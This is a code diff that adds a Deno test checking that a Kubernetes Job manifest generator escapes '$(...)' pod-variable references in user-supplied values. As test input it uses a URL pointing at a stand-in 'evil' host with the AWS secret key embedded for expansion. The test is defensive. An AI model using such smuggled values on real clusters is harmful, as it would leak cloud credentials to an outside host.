@@ -76,3 +76,13 @@ Deno.test("the Job has one pod at a time, is not retried in vain, and cannot van
   assertEquals(spec?.podFailurePolicy?.rules.map(({ action }) => action), ["FailJob", "Ignore"]);
   assertEquals(spec?.podFailurePolicy?.rules[0]?.onExitCodes?.values, [2, 3]);
 });
+
+Deno.test("what is given cannot have variables of the pod put into the command line", () => {
+  const object = partitionJob({ endpointURL: "http://evil/$(AWS_SECRET_ACCESS_KEY)$$(A)" });
+  const tables = { ...config, tableAllow: ["$(PARTITION_VALUE)*"] };
+  const args = jobManifest(object, "s", tables).spec?.template.spec?.containers[0]?.args ?? [];
+  assertEquals(args.slice(3, 5), ["-e", "http://evil/$$(AWS_SECRET_ACCESS_KEY)$$$$(A)"]);
+  assertEquals(args.includes("$$(PARTITION_VALUE)*"), true);
+  const references = args.map((arg) => arg.replaceAll("$$", "")).filter((arg) => arg.includes("$"));
+  assertEquals(references, ["[$(POD_IP)]:9086"]);
+});
